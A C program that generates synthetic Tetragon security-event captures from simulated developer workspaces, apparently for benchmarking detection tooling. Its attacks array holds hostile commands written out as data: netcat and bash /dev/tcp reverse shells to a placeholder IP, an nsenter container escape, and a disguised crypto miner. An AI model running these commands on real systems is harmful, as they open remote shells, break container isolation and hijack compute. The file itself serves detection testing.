/* Generates a realistic Tetragon JSON export capture for benchmarks: a fleet of developer
 * workspaces on one node running shells, git, compilers, package managers and tests, with
 * process_exec / process_exit / process_kprobe (file and socket) events shaped like real
 * exports (capabilities, namespaces, pod labels), consistent exec_id lineage, increasing
 * event time, and a rare attack-like event mixed in.
 * usage: gencapture MEGABYTES [SEED] > capture.jsonl */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdbool.h>
#include <time.h>

static uint64_t rng_state = 88172645463325252ull;
static uint64_t rnd(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return rng_state;
}
static unsigned pick(unsigned n) { return (unsigned)(rnd() % n); }

static const char *const node = "gke-devpool-3b9e1c-node-7";
static const char *const caps =
	"{\"permitted\":[\"CAP_CHOWN\",\"DAC_OVERRIDE\",\"CAP_FOWNER\",\"CAP_FSETID\",\"CAP_KILL\",\"CAP_SETGID\","
	"\"CAP_SETUID\",\"CAP_SETPCAP\",\"CAP_NET_BIND_SERVICE\",\"CAP_NET_RAW\",\"CAP_SYS_CHROOT\",\"CAP_MKNOD\","
	"\"CAP_AUDIT_WRITE\",\"CAP_SETFCAP\"],\"effective\":[\"CAP_CHOWN\",\"DAC_OVERRIDE\",\"CAP_FOWNER\",\"CAP_FSETID\","
	"\"CAP_KILL\",\"CAP_SETGID\",\"CAP_SETUID\",\"CAP_SETPCAP\",\"CAP_NET_BIND_SERVICE\",\"CAP_NET_RAW\","
	"\"CAP_SYS_CHROOT\",\"CAP_MKNOD\",\"CAP_AUDIT_WRITE\",\"CAP_SETFCAP\"],\"inheritable\":[]}";
static const char *const ns =
	"{\"uts\":{\"inum\":4026534481},\"ipc\":{\"inum\":4026534482},\"mnt\":{\"inum\":4026534484},"
	"\"pid\":{\"inum\":4026534485},\"pid_for_children\":{\"inum\":4026534485},\"net\":{\"inum\":4026534422},"
	"\"time\":{\"inum\":4026531834,\"is_host\":true},\"time_for_children\":{\"inum\":4026531834,\"is_host\":true},"
	"\"cgroup\":{\"inum\":4026534486},\"user\":{\"inum\":4026531837,\"is_host\":true}}";

struct cmd {
	const char *binary, *args;
};
static const struct cmd cmds[] = {
	{"/usr/bin/git", "status --short"}, {"/usr/bin/git", "fetch origin"}, {"/usr/bin/ssh", "git@github.com git-upload-pack 'org/api.git'"},
	{"/usr/bin/ls", "-la"}, {"/usr/bin/cat", "README.md"}, {"/usr/bin/grep", "-rn TODO src/"},
	{"/usr/local/go/bin/go", "build ./..."}, {"/usr/local/go/pkg/tool/linux_amd64/compile", "-o /tmp/go-build123/b001/_pkg_.a -p main"},
	{"/usr/bin/gcc", "-O2 -c main.c -o main.o"}, {"/usr/bin/make", "-j4"}, {"/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js install"},
	{"/usr/bin/python3", "-m pytest -q tests/"}, {"/usr/bin/pip", "install -r requirements.txt"}, {"/usr/bin/vim", "src/main.go"},
	{"/usr/bin/curl", "-sSL -o /home/dev/project/tool.tar.gz https://github.com/org/tool/releases/download/v1.2/tool.tar.gz"},
	{"/usr/bin/sudo", "apt-get install -y jq"}, {"/usr/bin/apt-get", "install -y jq"}, {"/usr/bin/dpkg", "--status-fd 23 --configure --pending"},
	{"/usr/bin/kubectl", "get pods -n dev"}, {"/usr/bin/sed", "-i s/foo/bar/ config.yaml"}, {"/usr/bin/find", ". -name *.py"},
	{"/bin/bash", "-c 'make test'"}, {"/usr/bin/python3", "/opt/conda/bin/jupyter-kernel --ip=127.0.0.1"}, {"/usr/bin/rg", "handler src"},
};
static const struct cmd attacks[] = {
	{"/usr/bin/nc", "-e /bin/sh 203.0.113.50 4444"},
	{"/bin/bash", "-c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"},
	{"/usr/bin/nsenter", "-t 1 -m -u -n -i -p /bin/bash"},
	{"/tmp/.cache/kworkerd", "-o stratum+tcp://pool.example.net:3333 -u 4AdUnD -p x --donate-level 1"},
};
static const char *const files[] = {"/home/dev/project/main.go", "/etc/passwd", "/usr/lib/x86_64-linux-gnu/libc.so.6",
				    "/home/dev/.gitconfig", "/etc/hosts", "/home/dev/project/go.sum"};

static void b64(const char *in, char *out)
{
	static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0;
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)(unsigned char)in[i] << 16;
		if (i + 1 < n) v |= (uint32_t)(unsigned char)in[i + 1] << 8;
		if (i + 2 < n) v |= (unsigned char)in[i + 2];
		out[o++] = tbl[(v >> 18) & 63];
		out[o++] = tbl[(v >> 12) & 63];
		out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < n ? tbl[v & 63] : '=';
	}
	out[o] = 0;
}

static void exec_id(uint64_t ktime, unsigned pid, char *out)
{
	char raw[128];
	snprintf(raw, sizeof raw, "%s:%llu:%u", node, (unsigned long long)ktime, pid);
	b64(raw, out);
}

static void ts(uint64_t ns_epoch, char *out)
{
	time_t s = (time_t)(ns_epoch / 1000000000ull);
	struct tm tm;
	gmtime_r(&s, &tm);
	size_t n = strftime(out, 40, "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(out + n, 24, ".%09lluZ", (unsigned long long)(ns_epoch % 1000000000ull));
}

static void pod(FILE *o, unsigned ws)
{
	fprintf(o, "\"pod\":{\"namespace\":\"ws-user%u\",\"name\":\"ws-user%u-7f9c6d-0\",\"container\":{\"id\":\"containerd://%016llx%016llx\","
		   "\"name\":\"dev\",\"image\":{\"id\":\"registry.example.com/devenv/python-go@sha256:2bc5c236e9b262645a323e9088dfa3bb1ecb16cc75811daf40a23a824d665be9\","
		   "\"name\":\"registry.example.com/devenv/python-go:2026.10\"},\"start_time\":\"2026-10-14T08:00:00Z\",\"pid\":%u},"
		   "\"pod_labels\":{\"app.kubernetes.io/name\":\"devenv\",\"worktrace.io/workspace\":\"ws%u\",\"worktrace.io/owner\":\"user%u@example.com\"},"
		   "\"workload\":\"ws-user%u\",\"workload_kind\":\"StatefulSet\"}",
		ws, ws, (unsigned long long)ws * 7919, (unsigned long long)ws * 104729, 40 + ws % 50, ws, ws, ws);
}

static void process(FILE *o, const char *id, const char *parent_id, unsigned pid, unsigned uid, const char *bin,
		    const char *args, const char *start, unsigned ws, bool full)
{
	fprintf(o, "{\"exec_id\":\"%s\",\"pid\":%u,\"uid\":%u,\"cwd\":\"/home/dev/project\",\"binary\":\"%s\",\"arguments\":\"", id, pid, uid, bin);
	for (const char *p = args; *p; p++) {
		if (*p == '"' || *p == '\\')
			fputc('\\', o);
		fputc(*p, o);
	}
	fprintf(o, "\",\"flags\":\"execve clone\",\"start_time\":\"%s\",\"auid\":4294967295,", start);
	pod(o, ws);
	fprintf(o, ",\"docker\":\"%016llx\",\"parent_exec_id\":\"%s\",\"refcnt\":1", (unsigned long long)ws * 7919, parent_id);
	if (full)
		fprintf(o, ",\"cap\":%s,\"ns\":%s,\"tid\":%u,\"process_credentials\":{\"uid\":%u,\"gid\":%u,\"euid\":%u,\"egid\":%u}",
			caps, ns, pid, uid, uid, uid, uid);
	fputc('}', o);
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: gencapture MEGABYTES [SEED]\n");
		return 2;
	}
	uint64_t target = strtoull(argv[1], NULL, 10) << 20;
	if (argc > 2)
		rng_state ^= strtoull(argv[2], NULL, 10) * 0x9E3779B97F4A7C15ull;
	enum { WS = 200 };
	struct { char shell_id[96]; unsigned shell_pid; char start[40]; } shells[WS];
	uint64_t t = 1791970800ull * 1000000000ull, kt = 8000000000000ull;
	unsigned next_pid = 1000;
	for (unsigned w = 0; w < WS; w++) {
		shells[w].shell_pid = next_pid++;
		exec_id(kt + w, shells[w].shell_pid, shells[w].shell_id);
		ts(t, shells[w].start);
	}
	uint64_t written = 0;
	char id[96], start[40], now[40];
	char *chunk = NULL;
	size_t chunk_len = 0;
	while (written < target) {
		FILE *o = open_memstream(&chunk, &chunk_len);
		unsigned w = pick(WS);
		bool attack = pick(2000) == 0;
		const struct cmd *c = attack ? &attacks[pick(4)] : &cmds[pick(sizeof cmds / sizeof cmds[0])];
		unsigned pid = next_pid++;
		t += 1000000ull + pick(20000000);
		kt += 1000000ull;
		exec_id(kt, pid, id);
		ts(t, start);
		bool net = !attack && (strstr(c->binary, "ssh") || strstr(c->binary, "git") || strstr(c->binary, "curl") ||
				       strstr(c->binary, "node") || strstr(c->binary, "pip") || strstr(c->binary, "apt-get") ||
				       strstr(c->binary, "/go"));
		/* root only for the package manager path, as after sudo */
		unsigned uid = strstr(c->binary, "apt-get") || strstr(c->binary, "dpkg") || strstr(c->binary, "sudo") ? 0 : 1000;
		/* exec */
		fputs("{\"process_exec\":{\"process\":", o);
		process(o, id, shells[w].shell_id, pid, uid, c->binary, c->args, start, w, true);
		fputs(",\"parent\":", o);
		process(o, shells[w].shell_id, "Y29udGFpbmVyZC1zaGlt", shells[w].shell_pid, 1000, "/bin/bash", "-l", shells[w].start, w, true);
		fprintf(o, "},\"node_name\":\"%s\",\"time\":\"%s\"}\n", node, start);
		/* some kprobes */
		unsigned nk = pick(3);
		for (unsigned k = 0; k < nk; k++) {
			t += 100000ull + pick(1000000);
			ts(t, now);
			fputs("{\"process_kprobe\":{\"process\":", o);
			process(o, id, shells[w].shell_id, pid, uid, c->binary, c->args, start, w, false);
			fputs(",\"parent\":", o);
			process(o, shells[w].shell_id, "Y29udGFpbmVyZC1zaGlt", shells[w].shell_pid, 1000, "/bin/bash", "-l", shells[w].start, w, false);
			if (!net || pick(2))
				fprintf(o, ",\"function_name\":\"security_file_permission\",\"args\":[{\"file_arg\":{\"path\":\"%s\",\"permission\":\"-rw-r--r--\"}},{\"int_arg\":4}],"
					   "\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"file-monitoring\"",
					/* only ssh reads the user's key, as in a real workspace */
					strcmp(c->binary, "/usr/bin/ssh") == 0 ? "/home/dev/.ssh/id_ed25519"
									      : files[pick(sizeof files / sizeof files[0])]);
			else
				fprintf(o, ",\"function_name\":\"tcp_connect\",\"args\":[{\"sock_arg\":{\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\",\"protocol\":\"IPPROTO_TCP\","
					   "\"saddr\":\"10.52.%u.%u\",\"daddr\":\"140.82.121.%u\",\"sport\":%u,\"dport\":%u,\"cookie\":\"18446635049337231936\",\"state\":\"TCP_SYN_SENT\"}}],"
					   "\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"tcp-connect\"",
					w % 250, 10 + w % 200, 1 + pick(200), 30000 + pick(30000), pick(2) ? 443 : 22);
			fprintf(o, "},\"node_name\":\"%s\",\"time\":\"%s\"}\n", node, now);
		}
		/* exit */
		t += 1000000ull + pick(50000000);
		ts(t, now);
		fputs("{\"process_exit\":{\"process\":", o);
		process(o, id, shells[w].shell_id, pid, uid, c->binary, c->args, start, w, false);
		fputs(",\"parent\":", o);
		process(o, shells[w].shell_id, "Y29udGFpbmVyZC1zaGlt", shells[w].shell_pid, 1000, "/bin/bash", "-l", shells[w].start, w, false);
		fprintf(o, ",\"status\":%u},\"node_name\":\"%s\",\"time\":\"%s\"}\n", pick(10) == 0 ? 1 : 0, node, now);
		fclose(o);
		fwrite(chunk, 1, chunk_len, stdout);
		written += chunk_len;
		free(chunk);
		chunk = NULL;
	}
	return 0;
}
